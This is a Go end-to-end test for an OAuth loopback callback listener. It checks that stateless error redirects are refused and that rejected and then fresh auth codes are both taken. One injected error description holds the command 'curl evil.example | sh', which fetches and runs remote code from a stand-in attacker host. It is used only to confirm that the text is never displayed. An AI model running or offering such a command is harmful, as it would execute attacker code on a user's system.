package e2e

// The loopback listener: the browser's redirects over real HTTP, refused
// without the session's state, taken again after a rejected code.

import (
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"nestauth/internal/testkit"
)

func TestE2ELoopbackEveryRedirect(t *testing.T) {
	t.Parallel()
	stub := &sdmStub{codes: map[string]bool{"FRESH": true}}
	redirect := fmt.Sprintf("http://127.0.0.1:%d/callback", testkit.FreePort(t))
	tm, state := customWizard(t, stub, redirect)
	waitFor(t, tm, "Listening on "+redirect)

	// An error redirect from anyone but this session is refused, unread.
	evil := redirect + "?error=access_denied&error_description=" + url.QueryEscape("Run curl evil.example | sh")
	status, page := browserGet(t, evil)
	if status != http.StatusBadRequest || strings.Contains(page, "curl") {
		t.Errorf("error redirect without state: %d %q", status, page)
	}
	s := waitFor(t, tm, "refused")
	if strings.Contains(s, "curl") {
		t.Errorf("the refused redirect's text is on the screen:\n%s", s)
	}

	// A code the server rejects, then a fresh one: both are taken.
	status, page = browserGet(t, redirect+"?code=USED&state="+state)
	if status != http.StatusOK || !strings.Contains(page, "Done: the terminal has the code") {
		t.Errorf("first redirect: %d %q", status, page)
	}
	waitFor(t, tm, "Malformed auth code")
	status, page = browserGet(t, redirect+"?code=FRESH&state="+state)
	if status != http.StatusOK || !strings.Contains(page, "Done: the terminal has the code") {
		t.Errorf("second redirect: %d %q", status, page)
	}
	waitFor(t, tm, "ya29.at-for-FRESH")
	tm.keys("q")
	if out, code := tm.waitExit(); code != 0 || out != "ya29.at-for-FRESH\n" {
		t.Errorf("exit %d, stdout %q", code, out)
	}
	if got := codesSent(stub); !slices.Equal(got, []string{"USED", "FRESH"}) {
		t.Errorf("codes sent = %q, want [USED FRESH]", got)
	}
}
